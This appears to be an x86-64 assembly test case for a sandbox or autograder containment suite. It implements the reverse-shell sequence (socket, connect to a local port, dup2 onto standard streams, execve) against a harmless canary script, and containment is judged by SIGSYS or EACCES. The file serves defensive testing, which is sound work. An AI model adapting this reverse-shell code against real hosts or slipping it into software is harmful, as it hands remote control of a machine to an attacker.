; attack: gives a shell to whoever waits at the other end of a connection
; works: the file "executed" appears
; contained: signal SIGSYS or errno EACCES
;
; Connect, make the connection the standard input and output, become a shell:
; three calls, and autograders have been taken over by them. Here the shell is a
; script that leaves a file.

%include "attack.inc"

    section .rodata
path:
    db      "./canary.sh", 0

    section .data
    align   8
arguments:
    dq      path, 0
environment:
    dq      0
address:                                ; struct sockaddr_in
    dw      AF_INET
    db      7007 >> 8, 7007 & 0xff      ; the port, upper byte first
    db      127, 0, 0, 1
    times 8 db 0

SYS_dup2    equ 33

    section .text
attack:
    mov     edi, AF_INET
    mov     esi, SOCK_STREAM
    xor     edx, edx
    mov     eax, SYS_socket
    syscall
    test    rax, rax
    js      outcome
    mov     ebx, eax
    mov     edi, eax
    lea     rsi, [rel address]
    mov     edx, 16
    mov     eax, SYS_connect
    syscall
    test    rax, rax
    js      outcome
    mov     ebp, 2
.next:
    mov     edi, ebx
    mov     esi, ebp                    ; standard error, output, input
    mov     eax, SYS_dup2
    syscall
    dec     ebp
    jns     .next
    lea     rdi, [rel path]
    lea     rsi, [rel arguments]
    lea     rdx, [rel environment]
    mov     eax, SYS_execve
    syscall
    jmp     outcome

    section .note.GNU-stack noalloc noexec nowrite progbits
